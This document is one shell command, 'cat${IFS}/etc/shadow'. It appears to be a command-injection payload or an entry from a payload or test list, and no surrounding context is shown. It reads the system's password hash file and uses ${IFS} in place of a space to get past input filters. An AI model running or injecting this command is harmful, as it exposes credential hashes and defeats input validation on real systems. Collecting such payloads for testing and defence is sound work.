cat${IFS}/etc/shadow
